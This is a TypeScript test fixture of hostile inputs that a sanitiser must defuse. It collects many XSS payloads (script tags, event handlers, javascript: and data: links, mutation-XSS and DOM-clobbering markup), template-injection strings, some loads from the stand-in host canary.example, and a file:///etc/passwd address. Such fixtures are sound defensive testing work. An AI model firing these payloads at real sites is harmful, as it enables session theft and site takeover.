/**
 * What a careless or hijacked service might send. Each of it sets `window.__pwn`, or asks canary.example for something, where it is
 * believed.
 * Collected from what has worked before: the filter-evasion sheets, the sanitisers' own fixtures, and markup that changes when it is read
 * twice.
 */
const pwn = 'window.__pwn=1';
const canary = 'https://canary.example';

const scripts = [
  `<script>${pwn}</script>`, `<SCRIPT SRC=//canary.example/x.js></SCRIPT>`, `"><script>${pwn}</script>`,
  `<scr<script>ipt>${pwn}</scr</script>ipt>`, `<script>${pwn}`, `<<SCRIPT>${pwn}//<</SCRIPT>`,
  `<script/x type=text/javascript>${pwn}</script >`, `<!--><script>${pwn}</script>-->`, `<!-- --!><script>${pwn}</script>`,
  `<![CDATA[<script>${pwn}</script>]]>`, `<?xml version="1.0"?><script>${pwn}</script>`,
  `<template><script>${pwn}</script></template>`, `<template shadowrootmode=open><script>${pwn}</script></template>`,
  `<script type=module>import '${canary}/x.js'</script>`,
];
const handlers = [
  `<img src=x onerror=${pwn}>`, `<img/src=x/onerror=${pwn}>`, `<img src=x onerror=${pwn}//`, `<IMG """><SCRIPT>${pwn}</SCRIPT>">`,
  `<img src="x\`\`onerror=${pwn}">`, `<img src=x:x on\u0000error=${pwn}>`,
  `<svg onload=${pwn}>`, `<svg/onload=${pwn}//`, `<svg><script>${pwn}</script></svg>`,
  `<svg><script href="data:text/javascript,${pwn}"/></svg>`, `<svg><animate onbegin=${pwn} attributeName=x dur=1s>`,
  `<svg><set attributeName=href onbegin=${pwn}>`,
  `<svg><a><animate attributeName=href values=javascript:${pwn} /><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${pwn}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwn=1</script>"></foreignObject></svg>`, `<body onload=${pwn}>`,
  `<input autofocus onfocus=${pwn}>`, `<select autofocus onfocus=${pwn}></select>`,
  `<details open ontoggle=${pwn}>x</details>`, `<video><source onerror=${pwn}></video>`, `<audio src=x onerror=${pwn}>`,
  `<marquee onstart=${pwn}>x</marquee>`, `<p tabindex=1 autofocus onfocus=${pwn}>x</p>`, `<x onclick=${pwn}>press</x>`,
];
const links = [
  `<a href="javascript:${pwn}">press</a>`, `<a href="JaVaScRiPt:${pwn}">press</a>`, `<a href="java&Tab;script:${pwn}">press</a>`,
  `<a href="java&#10;script:${pwn}">press</a>`, `<a href="&#106;avascript:${pwn}">press</a>`,
  `<a href="&#x6A;&#x61;vascript&colon;${pwn}">press</a>`, `<a href="&#1;javascript:${pwn}">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`, `<a href="data:text/html,<script>opener.__pwn=1</script>">press</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd249MTwvc2NyaXB0Pg==">press</a>`, `<a href="//canary.example/">press</a>`,
  `<a href="https://surefoot.example@canary.example/">press</a>`, `<a href=" https://surefoot.example:x@canary.example/">press</a>`,
  `<a href="/\\canary.example/">press</a>`, `<a href="jar:${canary}/x!y">press</a>`, `<a href=x onmouseover=${pwn}>press</a>`,
  `<a xlink:href="javascript:${pwn}">press</a>`, `<area href="javascript:${pwn}">`, `<base href="${canary}/">`,
];
const frames = [
  `<iframe src="javascript:parent.__pwn=1"></iframe>`, `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
  `<object data="javascript:${pwn}"></object>`, `<embed src="data:text/html,<script>parent.__pwn=1</script>">`,
  `<form action="${canary}/"><input name=cookie><button formaction="javascript:${pwn}">press</button></form>`,
  `<button form=root formaction=javascript:${pwn}>press</button>`, `<input type=image src=${canary}/x.png>`,
  `<link rel=stylesheet href=${canary}/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${pwn}">`,
  `<style>@import '${canary}/x.css';</style>`, `<div style="background:url(${canary}/x.png)">x</div>`, `<img src="${canary}/pixel.png">`,
  `<picture><source srcset=${canary}/x.png><img></picture>`, `<table background=${canary}/x.png><tr><td>x</td></tr></table>`,
  `<dialog open>x</dialog>`, `<button popovertarget=root>press</button>`,
];
const names = [
  `<div id="root" class="shell" data-field="card" aria-hidden="true" style="position:fixed">x</div>`,
  `<form id=x><input name=attributes><input name=parentNode></form>`, `<img name=body>`,
  `<a id=__pwn href="mailto:x@canary.example">press</a>`,
  `<a id=defaultView></a><a id=defaultView name=__pwn></a>`, `<div slot=x is=x-y contenteditable>x</div>`,
];
/** Harmless when read once. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${pwn}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${pwn}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${pwn}>">`, `<svg><style><img title="</style><img src=1 onerror=${pwn}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`, `<noembed><img title="</noembed><img src=x onerror=${pwn}>"></noembed>`,
  `<textarea><p title="</textarea><img src=x onerror=${pwn}>">`, `<title><p title="</title><img src=x onerror=${pwn}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${pwn}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${pwn}></style></annotation-xml></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${pwn}>">`,
  `<table><td><select><style></td></table><img src=x onerror=${pwn}></style></select>`,
  `<option><style></option></select><b><img src=x onerror=${pwn}></style></option>`,
  `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=${pwn}>">`,
  `<a title="&lt;img src=x onerror=${pwn}&gt;" href="/x">press</a>`,
  `&lt;img src=x onerror=${pwn}&gt;`, `&amp;lt;script&amp;gt;${pwn}&amp;lt;/script&amp;gt;`,
  `${'<div>'.repeat(520)}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${pwn}&gt;">`,
];
/** HTML that must lose its sting. */
export const hostileHtml: readonly string[] = [...scripts, ...handlers, ...links, ...frames, ...names, ...mutating];

/** Words that must be shown as they are: markup, ends of markup, and templates that somebody might fill. */
export const hostileWords: readonly string[] = [
  `<script>${pwn}</script>`, `<img src=x onerror=${pwn}>`, `"><svg onload=${pwn}>`, `'"--></style></script><script>${pwn}</script>`,
  `</title><script>${pwn}</script>`, `<b>bold</b> & <i>"quoted"</i>`, `&lt;img src=x onerror=${pwn}&gt;`,
  `{{constructor.constructor('${pwn}')()}}`, `\${${pwn}}`, `#{${pwn}}`, `<%= ${pwn} %>`, `{driverInfo.email}`, `{firstName}`,
  `javascript:${pwn}`, `__proto__`, `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${pwn} )//`,
];

/** Addresses that must not become a link. */
export const hostileAddresses: readonly string[] = [
  `javascript:${pwn}`, `JaVaScRiPt:${pwn}`, `java\nscript:${pwn}`, `java\tscript:${pwn}`, `\tjavascript:${pwn}`, ` javascript:${pwn}`,
  `\u0001javascript:${pwn}`, `javascript://canary.example/%0a${pwn}`, 'data:text/html,<script>opener.__pwn=1</script>',
  'vbscript:msgbox(1)',
  '//canary.example/policy.pdf', '/\\canary.example/policy.pdf', '\\\\canary.example', 'https://surefoot.example@canary.example/policy.pdf',
  'https://surefoot.example:x@canary.example/', `blob:${canary}/1`, `view-source:${canary}`, 'file:///etc/passwd',
];
